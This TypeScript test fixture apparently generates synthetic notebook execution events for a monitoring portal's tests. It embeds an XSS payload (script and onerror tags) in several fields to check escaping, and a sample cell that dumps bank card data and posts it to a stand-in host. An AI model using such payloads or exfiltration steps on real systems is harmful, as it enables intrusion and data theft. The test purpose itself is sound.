import { executionId, PROTOCOL_VERSION, type ExecutionEvent } from '@celltrail/protocol';

/** Somebody of the company that the portal's tests look at. */
export interface Colleague {
  username: string;
  role: 'analyst' | 'auditor' | 'admin';
  /** how many runs are on record */
  runs: number;
}

/** Who works there. The one without runs looks after the others. */
export const COLLEAGUES: readonly Colleague[] = [
  { username: 'sara.karimi', role: 'analyst', runs: 160 },
  { username: 'reza.ahmadi', role: 'analyst', runs: 120 },
  { username: 'نرگس', role: 'analyst', runs: 60 },
  { username: 'maryam.admin', role: 'admin', runs: 0 }
];

/** What a page must show as text, whatever field it comes in. */
export const HOSTILE = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';

const NOTEBOOKS = [
  'reports/customers.ipynb',
  'reports/monthly/settlement.ipynb',
  'fraud/features.ipynb',
  'گزارش ماهانه.ipynb'
];

const CELLS = [
  'import pandas as pd\nimport numpy as np',
  'customers = db.get_customers()\ncustomers.head()',
  'transactions = db.query("""\n  SELECT merchant_id, amount, created_at\n  FROM transactions\n  WHERE created_at >= now() - interval \'7 days\'\n""")',
  'by_bank = transactions.groupby("bank").amount.agg(["sum", "mean", "count"])\nby_bank.sort_values("sum", ascending=False)',
  'df = pd.read_csv("settlement.csv", parse_dates=["date"])\ndf.describe()',
  'features = build_features(df)  # takes a while\nmodel.fit(features, labels)',
  'fig, ax = plt.subplots(figsize=(10, 4))\nby_bank["sum"].plot.bar(ax=ax)',
  'def normalise(name: str) -> str:\n    """فاصلهٔ مجازی و ی عربی را یکسان می‌کند."""\n    return name.replace("ي", "ی")',
  'assert df.amount.min() >= 0, "negative amounts"',
  'print("سلام")'
];

/** What the policy in docs/ keeps from analysts; one colleague did it lately. */
const FORBIDDEN = [
  'cards = db.get_cards(bank="melli")\ncards.to_csv("/data/cards-melli.csv")',
  'import requests\nrequests.post("https://files.example.net/upload", data=cards.to_json())'
];
const WHO_DID = 1;

const ERRORS = [
  ["KeyError: 'merchant_id'", 'KeyError'],
  ["ValueError: could not convert string to float: '۱۲٫۵'", 'ValueError'],
  ['ZeroDivisionError: division by zero', 'ZeroDivisionError']
] as const;

const DAY_MS = 86_400_000;

/** Numbers that look like chance and are the same every time. @returns 0 up to, not including, 1 */
function dice(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}

/**
 * A colleague's runs of the last two weeks as their pages would have sent them, in working hours, the last one a
 * minute before `now`. The last but one of each has hostile texts.
 */
export function runsOf(colleague: Colleague, number: number, now: Date): ExecutionEvent[] {
  const roll = dice(number * 7919 + 17);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(roll() * list.length)]!;
  const times = Array.from({ length: colleague.runs }, () => {
    const day = Math.floor(roll() * roll() * 14);
    const hour = 4 + Math.floor((roll() + roll()) * 5);
    const at =
      Math.floor(now.getTime() / DAY_MS) * DAY_MS - day * DAY_MS + hour * 3_600_000 + Math.floor(roll() * 3_600_000);
    return at > now.getTime() - 60_000 ? at - DAY_MS : at;
  }).sort((a, b) => a - b);
  const forbidden = number === WHO_DID ? FORBIDDEN : [];
  return times.map((at, index) => {
    const failed = roll() < 0.09 + number * 0.02;
    const [error_message, error_name] = pick(ERRORS);
    const took = Math.round(10 ** (0.5 + roll() * 3.2) * 1000) / 1000;
    const hostile = index === times.length - 2;
    const identity = {
      kernel_id: `kernel-${number}-${Math.floor(at / DAY_MS)}`,
      msg_id: `message-${number}-${index}`,
      requested_at: new Date(at).toISOString()
    };
    const event: ExecutionEvent = {
      type: 'execution.finished',
      id: executionId(identity.requested_at, identity.kernel_id, identity.msg_id),
      ...identity,
      observed_at: new Date(at + took + 20).toISOString(),
      page_id: `0b7c3f5e-6a0e-4d0c-9a39-00000000000${number}`,
      page_seq: index + 1,
      code: hostile ? `print('${HOSTILE}')` : (forbidden[index - times.length + 5] ?? pick(CELLS)),
      status: hostile || failed ? 'error' : 'success',
      timestamp: new Date(at + 15).toISOString(),
      execution_time_ms: took,
      queued_ms: 15,
      cell_number: (index % 40) + 1,
      cell_id: `cell-${index % 12}`,
      notebook_path: hostile ? `${HOSTILE}.ipynb` : NOTEBOOKS[(number + (index % 3)) % NOTEBOOKS.length]!,
      client: 'notebook',
      kernel_name: 'python3',
      ...((hostile || failed) && {
        error_message: hostile ? `ValueError: ${HOSTILE}` : error_message,
        error_name: hostile ? 'ValueError' : error_name,
        error_traceback: `Traceback (most recent call last):\n  Cell In[${index}], line 1\n${hostile ? HOSTILE : error_message}`
      })
    };
    return event;
  });
}

/** Sends events as a page does, in batches. @throws Error with the server's words when not all are stored */
export async function send(url: string, token: string, events: readonly ExecutionEvent[]): Promise<void> {
  for (let at = 0; at < events.length; at += 50) {
    const response = await fetch(`${url}/api/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body: JSON.stringify({ protocol: PROTOCOL_VERSION, events: events.slice(at, at + 50) })
    });
    const answer = (await response.json()) as { answers?: { outcome: string }[] };
    if (!response.ok || answer.answers?.some(({ outcome }) => outcome !== 'stored')) {
      throw new Error(`${response.status}: ${JSON.stringify(answer).slice(0, 600)}`);
    }
  }
}
